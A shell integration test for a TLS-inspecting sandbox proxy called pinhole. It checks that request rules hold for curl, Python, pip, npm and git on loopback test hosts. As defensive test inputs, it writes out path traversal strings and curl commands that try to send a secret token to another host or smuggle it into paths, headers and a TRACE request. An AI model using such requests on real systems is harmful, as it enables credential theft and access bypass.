#!/bin/sh
# Request rules over inspected TLS with real clients against real TLS
# origins on loopback: curl (through the proxy, captured, keep-alive),
# python urllib and requests, pip against a simple index, npm against a
# registry, git clone allowed and git push refused on a read-only host;
# an upstream certificate for another name is a 502; a client that pins
# its own CA is logged as such; a secret reaches its own host only.
# As root and as nobody.
. "$top_srcdir/tests/integration/lib.sh"

PY=/usr/bin/python3
need root dnsmasq curl git openssl npm $PY $PY:requests $PY:pip
export ASAN_OPTIONS=detect_leaks=0
cp "$PINHOLE" "$T/pinhole" && chmod 755 "$T/pinhole"
mkdir -m 1777 "$T/w" "$T/w/root" "$T/w/nobody"

# Names: every *.test is 127.0.0.1.
DNSP=$(free_port)
bg dnsmasq -k -u root -p "$DNSP" --listen-address=127.0.0.1 \
    --bind-interfaces --no-resolv --no-hosts --pid-file= \
    --address=/test/127.0.0.1

# What the origin serves: a simple index with one wheel, an npm tarball,
# a bare git repository.
O="$T/origin"
mkdir -p "$O/www/simple/pinhole-demo" "$O/npm" "$O/repos"
$PY - "$O" <<'PYEOF'
import io, sys, tarfile, zipfile
o = sys.argv[1]
d = "pinhole_demo-1.0.dist-info/"
files = {
    "pinhole_demo.py": "",
    d + "METADATA": "Metadata-Version: 2.1\nName: pinhole-demo\nVersion: 1.0\n",
    d + "WHEEL": "Wheel-Version: 1.0\nGenerator: hand\nRoot-Is-Purelib: true\nTag: py3-none-any\n",
}
files[d + "RECORD"] = "".join(f + ",,\n" for f in files) + d + "RECORD,,\n"
whl = "pinhole_demo-1.0-py3-none-any.whl"
with zipfile.ZipFile(o + "/www/simple/pinhole-demo/" + whl, "w") as z:
    for name, text in files.items():
        z.writestr(name, text)
open(o + "/www/simple/pinhole-demo/index.html", "w").write(
    '<html><body><a href="%s">%s</a></body></html>\n' % (whl, whl))
with tarfile.open(o + "/npm/pinhole-demo.tgz", "w:gz") as t:
    data = b'{"name": "pinhole-demo", "version": "1.0.0"}\n'
    info = tarfile.TarInfo("package/package.json")
    info.size = len(data)
    t.addfile(info, io.BytesIO(data))
PYEOF
git init -q "$T/src" && echo cloned-ok >"$T/src/README" &&
    git -C "$T/src" add README &&
    git -C "$T/src" -c user.name=t -c user.email=t@t commit -qm one &&
    git clone -q --bare "$T/src" "$O/repos/repo.git" ||
    fail "cannot make the test repository"
chmod -R a+rwX "$O/repos" && chmod -R a+rX "$O"

# Two TLS origins: one with a certificate for every name the policy
# inspects, one whose certificate names another host.
make_certs api.test git.test pypi.test npm.test other.test tunnel.test \
    echo.test
cp "$T/leaf.pem" "$T/good.pem" && cp "$T/leaf.key" "$T/good.key"
openssl req -newkey ec -pkeyopt ec_paramgen_curve:P-256 -nodes \
    -keyout "$T/bad.key" -out "$T/bad.csr" -subj /CN=wrong.test \
    2>/dev/null &&
    printf 'subjectAltName=DNS:wrong.test\n' >"$T/bad.san" &&
    openssl x509 -req -in "$T/bad.csr" -CA "$T/ca.pem" -CAkey "$T/ca.key" \
    -CAcreateserial -out "$T/bad.pem" -days 1 -extfile "$T/bad.san" \
    2>/dev/null || fail "cannot make the mismatched certificate"
chmod 644 "$T"/*.pem "$T"/*.key
SP=$(free_port)
BP=$(free_port)
: >"$T/origin.log" && chmod 666 "$T/origin.log"
bg $PY "$top_srcdir/tests/integration/tls-origin.py" "$SP" "$T/good.pem" \
    "$T/good.key" "$O" "$T/origin.log"
bg $PY "$top_srcdir/tests/integration/tls-origin.py" "$BP" "$T/bad.pem" \
    "$T/bad.key" "$O" "$T/origin.log"
wait_port "$DNSP" && wait_port "$SP" && wait_port "$BP" || { finish; exit 1; }

cat >"$T/cfg/policy" <<EOF
allow-private 127.0.0.0/8
allow api.test:* methods GET path /v1/**
allow git.test:* read-only
allow pypi.test:* read-only
allow npm.test:* read-only
allow bad.test:* read-only
allow other.test:* methods GET,POST
allow tunnel.test:*
allow echo.test:* path /**
secret TOKEN for api.test,echo.test
EOF
chmod 644 "$T/cfg/policy"
SECRET=s3cr3t-value-that-must-stay-outside

# The checks run inside the sandbox: each prints one "ok:" or "FAIL:" line.
cat >"$T/checks.sh" <<'CHECKS'
works() {
	desc=$1 want=$2; shift 2
	if out=$("$@" 2>&1) && printf '%s\n' "$out" | grep -q -- "$want"; then
		echo "ok: $MODE: $desc"
	else
		echo "FAIL: $MODE: $desc: $(printf '%s\n' "$out" | tail -4)"
	fi
}
# The output has $2, whatever the exit status.
says() {
	desc=$1 want=$2; shift 2
	out=$("$@" 2>&1)
	if printf '%s\n' "$out" | grep -q -- "$want"; then
		echo "ok: $MODE: $desc"
	else
		echo "FAIL: $MODE: $desc: $(printf '%s\n' "$out" | tail -4)"
	fi
}
code() {
	curl -sS -m 10 -o /dev/null -w '%{http_code}' "$@"
}
A=https://api.test:$SP

# curl through HTTPS_PROXY: the gateway's certificate is trusted without
# --cacert, each request is decided on its own.
works "curl: an allowed GET" "hello from api.test:$SP /v1/hello" \
    curl -sSf -m 10 "$A/v1/hello"
works "curl: POST is refused" "^403" code -X POST -d x "$A/v1/hello"
says "curl: the refusal names the constraint" "Pinhole-Error: constraint" \
    curl -sS -m 10 -i -X POST -d x "$A/v1/hello"
says "curl: the refusal names the method and the rule" "methods" \
    curl -sS -m 10 -X DELETE "$A/v1/hello"
works "curl: another path is refused" "^403" code "$A/v2/hello"
works "curl: /v1/../v2 is refused" "^403" code --path-as-is "$A/v1/../v2/x"
works "curl: /v1/%2e%2e/v2 is refused" "^403" code --path-as-is \
    "$A/v1/%2e%2e/v2/x"
works "curl: an encoded slash is a bad path" "^400" code "$A/v1/..%2fv2/x"
works "curl: /v1//x folds to an allowed path" "^200" code "$A/v1//x"
# Two requests on one connection: the first refused, the second through.
works "curl: keep-alive: refused, then allowed on the same connection" \
    "403 1 200 0" sh -c "curl -sS -m 10 -o /dev/null -o /dev/null \
    -w '%{http_code} %{num_connects} ' '$A/v2/a' '$A/v1/b'"
# Between two requests a connection gives back its TLS buffers and its
# parsed heads, and reads 4,000 bytes at once: a head of 3 KiB and a
# body of 20 KiB after the wait come whole.
PAD=$(head -c 3000 /dev/zero | tr '\0' p)
head -c 20000 /dev/zero | tr '\0' b >"$T/w/body-$MODE"
works "curl: keep-alive: a long head and a body after the wait" \
    "POST /1/echo.*X-Pad: $PAD.*200 1 POST /2/echo.*X-Pad: $PAD.*200 0" \
    sh -c "curl -sS -m 10 -H 'X-Pad: $PAD' --data-binary @$T/w/body-$MODE \
    -w '%{http_code} %{num_connects} ' 'https://echo.test:$SP/1/echo' \
    'https://echo.test:$SP/2/echo' | tr '\n' ' '"
works "curl: captured without the proxy, allowed" "hello from api.test" \
    curl -sSf -m 10 --noproxy '*' "$A/v1/direct"
works "curl: captured without the proxy, refused" "^403" \
    code --noproxy '*' "$A/v2/direct"

# Other clients, with their own ways of finding CAs.
works "python urllib" "hello from api.test" $PY -c \
    'import sys, urllib.request as u
print(u.urlopen(sys.argv[1], timeout=10).read().decode())' "$A/v1/urllib"
works "python requests" "hello from api.test" $PY -c \
    'import sys, requests
print(requests.get(sys.argv[1], timeout=10).text)' "$A/v1/requests"
works "python requests: a refused method" "403 constraint" $PY -c \
    'import sys, requests
r = requests.put(sys.argv[1], data=b"x", timeout=10)
print(r.status_code, r.headers.get("Pinhole-Error"))' "$A/v1/requests"
works "pip download from an inspected index" "pinhole_demo-1.0" \
    sh -c "PIP_DISABLE_PIP_VERSION_CHECK=1 $PY -m pip download -q \
    --no-cache-dir --no-deps -d $T/w/pip-$MODE \
    --index-url https://pypi.test:$SP/simple/ pinhole-demo &&
    ls $T/w/pip-$MODE"
mkdir -p "$T/w/npm-$MODE"
works "npm install from an inspected registry" '"version": "1.0.0"' \
    sh -c "cd $T/w/npm-$MODE && npm install --no-audit --no-fund \
    --no-update-notifier --no-package-lock \
    --cache $T/w/npm-cache-$MODE \
    --registry https://npm.test:$SP/npm/ pinhole-demo >/dev/null 2>&1;
    cat node_modules/pinhole-demo/package.json"

# git: clone from a read-only host, never push.
G=https://git.test:$SP/git/repo.git
works "git clone from a read-only host" "cloned-ok" sh -c \
    "git clone -q $G $T/w/clone-$MODE && cat $T/w/clone-$MODE/README"
works "git fetch from a read-only host" "" git -C "$T/w/clone-$MODE" fetch -q
(cd "$T/w/clone-$MODE" && echo pushed >README &&
    git -c user.name=t -c user.email=t@t commit -qam push) >/dev/null 2>&1
says "git push is refused, and git says why" "git push, not a read" \
    git -C "$T/w/clone-$MODE" push -q origin HEAD:refs/heads/pushed

# An upstream certificate that does not name the host: 502, never passed on.
works "an upstream certificate for another name is a 502" "502 upstream-tls" \
    curl -sS -m 10 -o /dev/null \
    -w '%{http_code} %header{pinhole-error}' "https://bad.test:$BP/x"
says "the 502 says why" "[Hh]ostname mismatch\|another name" \
    curl -sS -m 10 "https://bad.test:$BP/x"

# A client that trusts only its own CA refuses the gateway's certificate.
says "a client that pins its own CA fails" "curl: (60)" \
    curl -sS -m 10 --cacert "$T/ca.pem" "$A/v1/pinned"
# A host allowed without constraints is tunnelled: the origin's own
# certificate, which only the test CA vouches for.
works "an unconstrained host is tunnelled, not inspected" "hello from tunnel" \
    curl -sSf -m 10 --cacert "$T/ca.pem" "https://tunnel.test:$SP/t"

# Secrets: a placeholder here, the real value at its own host only.
works "the secret is a placeholder in the sandbox" \
    "^PINHOLE-SECRET-TOKEN-MASKED$" sh -c 'echo "$TOKEN"'
works "a request with the placeholder goes to the secret's host" \
    "Authorization: Bearer" sh -c "curl -sSf -m 10 \
    -H 'Authorization: Bearer $TOKEN' '$A/v1/echo' | tee $T/w/echo-$MODE"
works "the secret in basic-auth userinfo" "Authorization: Basic" \
    curl -sSf -m 10 -u "me:$TOKEN" "$A/v1/echo"
works "the placeholder to another host is refused" "403 secret-exfiltration" \
    curl -sS -m 10 -o /dev/null -w '%{http_code} %header{pinhole-error}' \
    -H "Authorization: Bearer $TOKEN" "https://other.test:$SP/echo"
works "the placeholder in a path is refused" "^403" \
    code "$A/v1/echo/$TOKEN"
works "the placeholder in another header is refused" \
    "403 secret-exfiltration" curl -sS -m 10 -o /dev/null \
    -w '%{http_code} %header{pinhole-error}' -H "Origin: $TOKEN" \
    "$A/v1/echo"
works "the placeholder in a TRACE request is refused" \
    "403 secret-exfiltration" curl -sS -m 10 -o /dev/null -X TRACE \
    -w '%{http_code} %header{pinhole-error}' \
    -H "Authorization: Bearer $TOKEN" "https://echo.test:$SP/t"
CHECKS
chmod 644 "$T/checks.sh"

for MODE in root nobody; do
	set -- env HOME="$T/w/$MODE" TOKEN="$SECRET" SSL_CERT_FILE="$T/ca.pem" \
	    "$T/pinhole" run --policy "$T/cfg/policy" \
	    --resolver "127.0.0.1:$DNSP" --log "$T/log/audit-$MODE.log" -- \
	    env MODE="$MODE" T="$T" PY="$PY" SP="$SP" BP="$BP" \
	    sh "$T/checks.sh"
	if [ "$MODE" = nobody ]; then
		set -- env XDG_RUNTIME_DIR="$T/xdg-nobody" setpriv \
		    --reuid=nobody --regid=nogroup --clear-groups "$@"
	fi
	"$@" >"$T/out" 2>&1
	cat "$T/out"
	n=$(grep -c '^ok: ' "$T/out")
	NPASS=$((NPASS + n))
	NFAIL=$((NFAIL + $(grep -c '^FAIL: ' "$T/out")))
	[ "$n" -ge 30 ] || fail "$MODE: the checks did not all run"

	L="$T/log/audit-$MODE.log"
	loggrep "$L" '"event":"request".*"verdict":"allow".*"method":"GET".*"path":"/v1/hello"' &&
	    loggrep "$L" '"event":"request".*"verdict":"deny".*"method":"POST"' &&
	    ok "$MODE: requests are logged with method, path and verdict" ||
	    fail "$MODE: no request lines: $(grep -m3 request "$L")"
	loggrep "$L" '"reason":"upstream-tls"' &&
	    ok "$MODE: the upstream certificate failure is logged" ||
	    fail "$MODE: no upstream-tls line"
	loggrep "$L" '"reason":"tls-client-rejected"' &&
	    ok "$MODE: the pinned client is logged as such" ||
	    fail "$MODE: no tls-client-rejected line"
	grep -q "Authorization-sha256 $(printf 'Bearer %s' "$SECRET" |
	    sha256sum | cut -d' ' -f1)" "$T/origin.log" &&
	    ok "$MODE: the origin got the secret's real value" ||
	    fail "$MODE: the origin never got the secret's value"
	grep -q "Bearer PINHOLE-SECRET-TOKEN-MASKED" "$T/w/echo-$MODE" &&
	    ! grep -q "$SECRET" "$T/w/echo-$MODE" &&
	    ok "$MODE: its echo came back with the placeholder" ||
	    fail "$MODE: the echo came back as: $(cat "$T/w/echo-$MODE")"
	loggrep "$L" '"reason":"secret-exfiltration".*"detail":"secret TOKEN' &&
	    ok "$MODE: the exfiltration attempt is logged with the secret's name" ||
	    fail "$MODE: no secret-exfiltration line naming TOKEN"
	loggrep "$L" '"detail":"secret TOKEN in header Origin"' &&
	    ok "$MODE: the placeholder in Origin is logged with its header" ||
	    fail "$MODE: no line for the placeholder in Origin"
	grep -q "$SECRET" "$L" && fail "$MODE: the secret's value is in the log" ||
	    ok "$MODE: the secret's value is not in the log"
	"$T/pinhole" log --summary "$L" >"$T/sum" 2>&1
	grep -q 'api.test' "$T/sum" && grep -q 'GET' "$T/sum" &&
	    grep -q 'POST' "$T/sum" &&
	    ok "$MODE: log --summary groups requests by host and method" ||
	    fail "$MODE: log --summary: $(cat "$T/sum")"
done

# What reached the origins: no push, no refused request, no placeholder.
grep -q 'git-receive-pack' "$T/origin.log" &&
    fail "a push reached the origin: $(grep receive-pack "$T/origin.log")" ||
    ok "no push reached the origin"
grep -q ' /v2/' "$T/origin.log" &&
    fail "a refused path reached the origin" ||
    ok "no refused path reached the origin"
grep -q 'other.test.*/echo' "$T/origin.log" &&
    fail "the placeholder's request reached another host" ||
    ok "the exfiltration attempt never reached the other host"
grep -q 'wrong.test\|bad.test' "$T/origin.log" &&
    fail "a request went to the origin whose certificate failed" ||
    ok "nothing was sent to the origin whose certificate failed"
grep -q 'git.test.*git-upload-pack' "$T/origin.log" &&
    ok "the origin saw the clone" || fail "the clone never reached the origin"
finish
